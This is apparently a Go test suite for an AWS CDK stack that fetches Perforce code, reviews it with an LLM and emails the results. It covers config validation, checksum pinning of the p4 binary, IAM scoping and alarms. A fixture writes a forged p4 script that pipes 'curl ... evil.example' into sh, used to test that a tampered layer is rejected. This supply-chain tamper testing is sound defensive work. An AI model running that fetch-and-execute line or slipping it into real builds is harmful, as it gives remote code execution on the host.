		{map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"batchSize": 2, "maxConcurrency": map[string]any{"llm": 6, "fetch": 4, "notify": 3}}}, "maxConcurrency.notify 3"},
		{map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"p4TimeoutSeconds": 10}}, "p4TimeoutSeconds"},
		{map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"smtpTimeoutSeconds": 10}}, "smtpTimeoutSeconds"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"smtpTLS": "ssl"})}, "smtpTLS"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"depotAllowList": []any{"depot/x/..."}})}, "depotAllowList"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"logRetentionDays": 10})}, "logRetentionDays"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"architecture": "x86"})}, "architecture"},
		{map[string]any{ctxEnv: "dev", ctxEnvironments: map[string]any{"qa": map[string]any{}}}, `unknown environment "qa"`},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"sweepSchedule": "rate(banana)"})}, "sweepSchedule"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"sweepSchedule": "rate(1 minutes)"})}, "sweepSchedule"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"llmEndpoint": "https://api.openai.com/v1/chat/completions"})}, "llmEndpoint"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"llmProvider": "gemini"})}, "llmProvider"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"emailProvider": "mailgun"})}, "emailProvider"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"confidentialCidrs": []any{"10.0.0.0/33"}})}, "confidentialCidrs"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"retentionDays": 90})}, "retentionDays"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"promptCandidatePercent": 10})}, "promptCandidateVersion"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"llmModelCandidatePercent": 10})}, "has no candidate model"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"llmModel": "m", "llmModelCandidate": "m", "llmModelCandidatePercent": 10})}, "is the stable model"},
		{map[string]any{ctxEnv: "staging", ctxOverrides: base(map[string]any{"p4LayerPath": ""})}, "p4LayerPath is empty"},
		{map[string]any{ctxEnv: "staging", ctxOverrides: base(map[string]any{"p4LayerPath": t.TempDir()})}, "no bin/p4"},
		{map[string]any{ctxEnv: "staging", ctxOverrides: base(map[string]any{"p4LayerSha256": ""})}, "p4LayerSha256"},
		{map[string]any{ctxEnv: "staging", ctxOverrides: base(map[string]any{"p4LayerSha256": strings.Repeat("ab", 32)})}, "not the configured " + strings.Repeat("ab", 32)},
		{map[string]any{ctxEnv: "prod", ctxOverrides: base(map[string]any{"p4LayerPath": forgedLayer(t)})}, "replaced after the build"},
		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"p4ServerRole": "replica"})}, "p4ServerRole"},
	}
	for _, c := range bad {
		a := testApp(t, c.ctx)
		if _, _, err := LoadConfig(a.Node()); err == nil {
			t.Errorf("context %v: accepted", c.ctx)
		} else if !strings.Contains(err.Error(), c.want) {
			t.Errorf("context %v: error %q does not name %q", c.ctx, err, c.want)
		}
	}
	// The good base is accepted (so the cases above fail for their own reason).
	good := map[string]any{ctxEnv: "dev", ctxOverrides: base(nil)}
	if _, _, err := LoadConfig(testApp(t, good).Node()); err != nil {
		t.Errorf("base config rejected: %v", err)
	}
}

// forgedLayer is a fake layer whose bin/p4 was replaced after `make
// p4-layer` recorded the chosen binary's checksum.
func forgedLayer(t *testing.T) string {
	layer := fakeLayer(t)
	if err := os.WriteFile(filepath.Join(layer, "bin", "p4"), []byte("#!/bin/sh\ncurl -s https://evil.example/x | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	return layer
}

// TestP4LayerPinnedPerEnvironment: each environment of cdk.json pins its p4
// client by SHA-256, and synth of that environment refuses a layer built
// from any other binary, naming the checksum it wanted.
func TestP4LayerPinnedPerEnvironment(t *testing.T) {
	checkedIn := cdkContext(t)
	envs := checkedIn[ctxEnvironments].(map[string]any)
	for _, env := range []string{"dev", "staging", "prod"} {
		pinned, _ := envs[env].(map[string]any)["p4LayerSha256"].(string)
		if err := p4layer.CheckSHA256(pinned); err != nil {
			t.Errorf("%s: p4LayerSha256 %q: %v", env, pinned, err)
			continue
		}
		ctx := map[string]any{}
		for k, v := range checkedIn {
			ctx[k] = v
		}
		ctx[ctxEnv] = env
		ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t)}
		_, _, err := LoadConfig(testApp(t, ctx).Node())
		if err == nil || !strings.Contains(err.Error(), "not the configured "+pinned) {
			t.Errorf("%s: a layer of another p4 binary: %v, want a refusal naming %s", env, err, pinned)
		}
	}
}

// TestEnvironmentsAsCheckedIn synthesizes dev, staging and prod from cdk.json
// (with a staged p4 layer) and checks what a reviewer of each template would.
func TestEnvironmentsAsCheckedIn(t *testing.T) {
	checkedIn := cdkContext(t)
	for _, env := range []string{"dev", "staging", "prod"} {
		t.Run(env, func(t *testing.T) {
			ctx := map[string]any{}
			for k, v := range checkedIn {
				ctx[k] = v
			}
			ctx[ctxEnv] = env
			ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t), "p4LayerSha256": fakeLayerSHA256}
			delete(ctx, ctxAssetRoot) // dummy bootstraps
			_, m := synth(t, ctx)
			envOf := func(fn string) map[string]any {
				return props(m, fn)["Environment"].(map[string]any)["Variables"].(map[string]any)
			}
			// Functions reach their endpoints.
			// Review with Amazon Bedrock: the role may invoke the one model,
			// no API key is read, the code stays in the account.
			rv := envOf("ReviewFunction")
			model, _ := rv["LLM_MODEL"].(string)
			if rv["LLM_PROVIDER"] != "bedrock" || model == "" || rv["LLM_SECRET_ID"] != nil || rv["LLM_ENDPOINT"] != nil {
				t.Errorf("review env = %v: want bedrock with a model, no key secret, the regional endpoint", rv)
			}
			rg := grants(t, m, "ReviewFunction")
			if !grantedOn(rg, "bedrock:InvokeModel", "foundation-model/"+model) || grantedOn(rg, "bedrock:InvokeModel", "foundation-model/*") {
				t.Errorf("review grants = %v: want bedrock:InvokeModel on %s only", rg, model)
			}
			if allowed(rg, "secretsmanager:GetSecretValue", "LlmSecret") {
				t.Error("review reads the LLM key secret under bedrock")
			}
			// ssl: Perforce with its fingerprint wired to the fetch function.
			if fp, _ := envOf("FetchFunction")["P4TRUST_FINGERPRINT"].(string); fp == "" {
				t.Error("fetch has no P4TRUST_FINGERPRINT for its ssl: port")
			}
			if role, _ := envOf("FetchFunction")["P4_SERVER_ROLE"].(string); role != "standard" && role != "commit" && role != "edge" {
				t.Errorf("fetch P4_SERVER_ROLE = %q", role)
			}
			fe := envOf("FetchFunction")
			if p, _ := fe["P4PORT"].(string); p == "" {
				t.Error("fetch has no P4PORT")
			}
			if sid, _ := json.Marshal(fe["P4_SECRET_ID"]); !strings.Contains(string(sid), "P4Secret") {
				t.Errorf("P4_SECRET_ID = %s: want the P4Secret", sid)
			}
			if !allowed(grants(t, m, "FetchFunction"), "secretsmanager:GetSecretValue", "P4Secret") {
				t.Error("fetch cannot read the P4 secret")
			}
			if l, _ := json.Marshal(props(m, "FetchFunction")["Layers"]); !strings.Contains(string(l), `"P4Layer"`) {
				t.Errorf("fetch layers = %s", l)
			}
			if fe["P4_BIN"] != "/opt/bin/p4" {
				t.Errorf("P4_BIN = %v", fe["P4_BIN"])
			}
			// Notify keys its outbox rows by the delivery key (rule ID-3).
			for _, fn := range []string{"NotifyFunction", "SweeperFunction"} {
				if sid, _ := json.Marshal(envOf(fn)["DELIVERY_KEY_SECRET_ID"]); !strings.Contains(string(sid), "DeliveryKeySecret") {
					t.Errorf("%s DELIVERY_KEY_SECRET_ID = %s: want the DeliveryKeySecret", fn, sid)
				}
				if !allowed(grants(t, m, fn), "secretsmanager:GetSecretValue", "DeliveryKeySecret") {
					t.Errorf("%s cannot read the delivery key", fn)
				}
			}
			// Notify reaches its provider, and the provider has a delivery
			// lookup (lookup-before-resend): SES's published events, or an
			// SMTP relay's log.
			switch nf := envOf("NotifyFunction"); nf["EMAIL_PROVIDER"] {
			case "ses":
				if cs, _ := nf["SES_CONFIGURATION_SET"].(string); cs == "" || props(m, "SesConfigurationSet")["Name"] != cs {
					t.Errorf("SES_CONFIGURATION_SET = %v: want the stack's configuration set", nf["SES_CONFIGURATION_SET"])
				}
				assertSESScoped(t, m, fmt.Sprint(nf["SES_CONFIGURATION_SET"]))
				if props(m, "SesEventDestination") == nil || props(m, "SesEventsRule") == nil || props(m, "SesEventsFunction") == nil {
					t.Error("SES events do not reach the provider evidence table: no lookup before resend")
				}
			case "smtp":
				if h, _ := nf["SMTP_HOST"].(string); h == "" {
					t.Error("notify has no SMTP_HOST")
				}
				if u, _ := nf["SMTP_LOOKUP_URL"].(string); u == "" {
					t.Error("SMTP without SMTP_LOOKUP_URL: every uncertain send becomes DELIVERY_UNCONFIRMED")
				}
			default:
				t.Errorf("EMAIL_PROVIDER = %v", nf["EMAIL_PROVIDER"])
			}
			// The sweeper's reconciler looks up provider evidence like notify.
			sw := envOf("SweeperFunction")
			if sw["EMAIL_PROVIDER"] == nil || !strings.Contains(fmt.Sprint(sw["SMTP_FROM"]), "@") {
				t.Errorf("sweeper env %v: want EMAIL_PROVIDER and SMTP_FROM for the reconciler", sw)
			}
			// Redaction policy for fetch and review.
			for _, fn := range []string{"FetchFunction", "ReviewFunction"} {
				if envOf(fn)["REDACT_EMAILS"] != "true" {
					t.Errorf("%s REDACT_EMAILS = %v", fn, envOf(fn)["REDACT_EMAILS"])
				}
			}
			// Every alarm pages.
			n := 0
			for id, r := range resources(m) {
				if r["Type"] != "AWS::CloudWatch::Alarm" {
					continue
				}
				n++
				if acts, _ := r["Properties"].(map[string]any)["AlarmActions"].([]any); len(acts) == 0 {
					t.Errorf("alarm %s has no action", id)
				}
			}
			if n == 0 {
				t.Error("no alarms")
			}
			// A retention round that stops completing pages (two days since the
			// last complete one began), and so do hourly runs that stop reporting.
			ra := props(m, "RetentionRoundAgeAlarm")
			if ra == nil || ra["MetricName"] != "RetentionRoundAgeHours" || ra["Namespace"] != "Criticizer" || ra["Threshold"] != float64(48) ||
				ra["Period"] != float64(3600) || ra["Statistic"] != "Maximum" || ra["TreatMissingData"] != "breaching" ||
				ra["ComparisonOperator"] != "GreaterThanThreshold" || ra["EvaluationPeriods"] != float64(3) {
				t.Errorf("RetentionRoundAgeAlarm = %v: want RetentionRoundAgeHours over 48 (hourly maximum), missing data breaching", ra)
			} else if dims, _ := json.Marshal(ra["Dimensions"]); string(dims) != `[{"Name":"Environment","Value":"`+env+`"}]` {
				t.Errorf("RetentionRoundAgeAlarm dimensions = %s: want this environment's", dims)
			}
			// API throttling and JSON access logs.
			st := props(m, "ApiDeploymentStage"+env)
			if st == nil {
				for id, r := range resources(m) {
					if r["Type"] == "AWS::ApiGateway::Stage" {
						st = props(m, id)
					}
				}
			}
			sj, _ := json.Marshal(st)
			if !strings.Contains(string(sj), `"ThrottlingRateLimit"`) || !strings.Contains(string(sj), `"AccessLogSetting"`) || !strings.Contains(string(sj), `\"status\"`) {
				t.Errorf("API stage = %s: want throttling and JSON access logs", sj)
			}
			// No secret value in the template: secrets are generated, never literal.
			for id, r := range resources(m) {
				if r["Type"] != "AWS::SecretsManager::Secret" {
					continue
				}
				if _, lit := r["Properties"].(map[string]any)["SecretString"]; lit {
					t.Errorf("secret %s has a literal SecretString", id)
				}
			}
			whole, _ := json.Marshal(m)
			for _, leak := range []string{"sk-", "BEGIN PRIVATE KEY", "\"password\":\""} {
				if strings.Contains(string(whole), leak) {
					t.Errorf("template contains %q", leak)
				}
			}
		})
	}
}

// TestAlarmMetricsAreEmitted: every application metric an alarm or the
// dashboard uses is one the code emits (an obs.Metrics Put call).
func TestAlarmMetricsAreEmitted(t *testing.T) {
	// Every optional alarm on: the prompt canary too.
	_, m := synth(t, map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"promptCandidateVersion": "1.1.0", "promptCandidatePercent": 10}})
	whole, _ := json.Marshal(m)
	used := map[string]bool{}
	for _, re := range []string{`SELECT SUM\((\w+)\) FROM Criticizer`, `"MetricName":"(\w+)","Namespace":"Criticizer"`} {
		for _, mm := range regexp.MustCompile(re).FindAllStringSubmatch(string(whole), -1) {
			used[mm[1]] = true
		}
	}
	if !used["ReviewResponsesRejected"] || len(used) < 6 {
		t.Fatalf("found only %v application metrics in the template", used)
	}
	emitted := map[string]bool{}
	put := regexp.MustCompile(`\.Put\("(\w+)"`)
	for _, root := range []string{"../shared", "../functions"} {
		_ = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || !strings.HasSuffix(p, ".go") || strings.HasSuffix(p, "_test.go") {
				return err
			}
			b, _ := os.ReadFile(p)
			for _, mm := range put.FindAllStringSubmatch(string(b), -1) {
				emitted[mm[1]] = true
			}
			return nil
		})
	}
	for name := range used {
		if !emitted[name] {
			t.Errorf("metric %s is alarmed on or graphed but no code emits it", name)
		}
	}
}

// TestRawBucketAccess: the raw bucket denies object access to everyone but the
// fetch role and the operator role; the trail logs its data events when enabled.
func TestRawBucketAccess(t *testing.T) {
	_, m := synth(t, map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{
		"operatorRoleArn": "arn:aws:iam::123456789012:role/criticizer-operator", "rawBucketDataEvents": true}})
	var pol map[string]any
	for _, r := range resources(m) {
		if r["Type"] == "AWS::S3::BucketPolicy" && strings.Contains(fmt.Sprint(r["Properties"].(map[string]any)["Bucket"]), "RawArtifacts") {
			pol = r["Properties"].(map[string]any)
		}
	}
	b, _ := json.Marshal(pol)
	for _, want := range []string{`"Sid":"OnlyFetchAndOperator"`, `"Effect":"Deny"`, `FetchFunctionServiceRole`, `role/criticizer-operator`, `aws:PrincipalArn`} {
		if !strings.Contains(string(b), want) {
			t.Errorf("raw bucket policy lacks %s: %s", want, b)
		}
	}
	tb, _ := json.Marshal(m)
	if !strings.Contains(string(tb), `"AWS::CloudTrail::Trail"`) || !strings.Contains(string(tb), `"DataResources"`) {
		t.Error("no CloudTrail data-event trail for the raw bucket")
	}
}

// TestSESProvider: with emailProvider ses the notify role may send through SES
// (no SMTP secret), and SES events reach the sesevents function.
func TestSESProvider(t *testing.T) {
	_, m := synth(t, map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"emailProvider": "ses", "sesConfigurationSet": "criticizer-local"}})
	g := grants(t, m, "NotifyFunction")
	if allowed(g, "secretsmanager:GetSecretValue", "SmtpSecret") {
		t.Errorf("notify grants = %v", g)
	}
	assertSESScoped(t, m, "criticizer-local")
	envOf := props(m, "NotifyFunction")["Environment"].(map[string]any)["Variables"].(map[string]any)
	if envOf["EMAIL_PROVIDER"] != "ses" || envOf["SES_CONFIGURATION_SET"] != "criticizer-local" {
		t.Errorf("notify env = %v", envOf)
	}
	if props(m, "SesEventsFunction") == nil || props(m, "SesEventsRule") == nil {
		t.Error("no sesevents function or rule")
	}
	if _, _, err := LoadConfig(testApp(t, map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"emailProvider": "ses"}}).Node()); err == nil || !strings.Contains(err.Error(), "sesConfigurationSet") {
		t.Errorf("ses without a configuration set: %v", err)
	}
}

// TestPromptCanaryAlarm: a candidate prompt in rollout gets the canary alarm,
// which pages; without a rollout there is none.
func TestPromptCanaryAlarm(t *testing.T) {
	_, m := synth(t, map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"promptCandidateVersion": "1.1.0", "promptCandidatePercent": 10}})
	b, _ := json.Marshal(props(m, "PromptCanaryAlarm"))
	for _, want := range []string{`"PromptVersion"`, `"1.1.0"`, `ReviewResponsesRejected`, `ReviewModelCalls`, `"EvaluationPeriods":6`, `"AlarmActions"`,
		// The spec's trigger: the candidate's rejection rate above twice the
		// stable version's (alarm when the difference is above 0).
		`"Expression":"IF(sc \u003e 0 AND cc \u003e 0, (cr / cc) - 2 * (sr / sc), 0)"`, `"Threshold":0`, `"ComparisonOperator":"GreaterThanThreshold"`} {
		if !strings.Contains(string(b), want) {
			t.Errorf("canary alarm lacks %s: %s", want, b)
		}
	}
	_, m = synth(t, map[string]any{ctxEnv: "local"})
	if props(m, "PromptCanaryAlarm") != nil {
		t.Error("canary alarm without a rollout")
	}
}

// The sections of the stack synthesize on their own and hold what their
// constructor promises.
func TestSecretsSection(t *testing.T) {
	for _, tc := range []struct {
		swarm   string
		secrets int
	}{{"", 5}, {"https://swarm.example.com", 7}} {
		cfg := DefaultConfig("dev")
		cfg.SwarmURL = tc.swarm
		stack := awscdk.NewStack(testApp(t, nil), jsii.String("Secrets"), nil)
		sec := newSecrets(stack, cfg, awscdk.RemovalPolicy_RETAIN)
		if (sec.swarmToken != nil) != (tc.swarm != "") || (sec.swarmAPI != nil) != (tc.swarm != "") {
			t.Errorf("swarmUrl %q: Swarm secrets %v %v", tc.swarm, sec.swarmToken, sec.swarmAPI)
		}
		tmpl := assertions.Template_FromStack(stack, nil)
		check(t, "secret count", func() { tmpl.ResourceCountIs(jsii.String("AWS::SecretsManager::Secret"), jsii.Number(tc.secrets)) })
		check(t, "generated, never literal", func() {
			tmpl.AllResourcesProperties(jsii.String("AWS::SecretsManager::Secret"), &map[string]any{
				"GenerateSecretString": assertions.Match_ObjectLike(&map[string]any{}),
				"SecretString":         assertions.Match_Absent(),
			})
		})
	}
}

func TestFunctionsSection(t *testing.T) {
	// The data section of a bare app: local's (no access-log bucket, whose
	// ownership settings come from the app's feature flags in cdk.json).
	cfg := DefaultConfig("local")
	cfg.P4LayerPath, cfg.P4LayerSHA256 = fakeLayer(t), fakeLayerSHA256
	stack := awscdk.NewStack(testApp(t, nil), jsii.String("Functions"), nil)
	table, raw, redacted := newData(stack, cfg, true, awscdk.RemovalPolicy_RETAIN)
	fetch, llm, notify := newQueues(stack, cfg, awscdk.RemovalPolicy_RETAIN)
	newFunctions(stack, functionsProps{env: "local", cfg: cfg, assetRoot: dummyAssets(t), removal: awscdk.RemovalPolicy_RETAIN,
		table: table, raw: raw, redacted: redacted, fetch: fetch, llm: llm, notify: notify,
		secrets: newSecrets(stack, cfg, awscdk.RemovalPolicy_RETAIN)})
	tmpl := assertions.Template_FromStack(stack, nil)
	check(t, "five functions and the doctor", func() { tmpl.ResourceCountIs(jsii.String("AWS::Lambda::Function"), jsii.Number(6)) })
	check(t, "three stage consumers, partial batch responses", func() {
		tmpl.ResourceCountIs(jsii.String("AWS::Lambda::EventSourceMapping"), jsii.Number(3))
		tmpl.AllResourcesProperties(jsii.String("AWS::Lambda::EventSourceMapping"), &map[string]any{
			"FunctionResponseTypes": []any{"ReportBatchItemFailures"},
		})
	})
	check(t, "the sweep and retention schedules", func() { tmpl.ResourceCountIs(jsii.String("AWS::Events::Rule"), jsii.Number(2)) })
	check(t, "the p4 layer", func() { tmpl.ResourceCountIs(jsii.String("AWS::Lambda::LayerVersion"), jsii.Number(1)) })
}

// TestNotifyReadsOnlyTheDecidedReview: notify delivers the review decided
// by the llm stage (shared/decide) and reads no code: of the artifacts, its
// role may read the decided reviews only, in every environment.
func TestNotifyReadsOnlyTheDecidedReview(t *testing.T) {
	for _, env := range []string{"dev", "staging", "prod"} {
		t.Run(env, func(t *testing.T) {
			ctx := cdkContext(t)
			ctx[ctxEnv] = env
			delete(ctx, ctxAssetRoot) // dummy bootstraps
			ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t), "p4LayerSha256": fakeLayerSHA256}
			_, m := synth(t, ctx)
			reads := 0
			for _, st := range policyStatements(t, m, "NotifyFunction") {
				res, _ := json.Marshal(st["Resource"])
				for _, a := range stringsOf(st["Action"]) {
					if !strings.HasPrefix(a, "s3:") {
						continue
					}
					reads++
					if strings.Contains(string(res), `"RawArtifacts"`) || !strings.Contains(string(res), "/jobs/*/decided.json") {
						t.Errorf("notify %s on %s: want the redacted bucket's decided reviews only", a, res)
					}
				}
			}
			if reads == 0 {
				t.Error("notify reads no artifact: it could not read the decided review")
			}
		})
	}
}
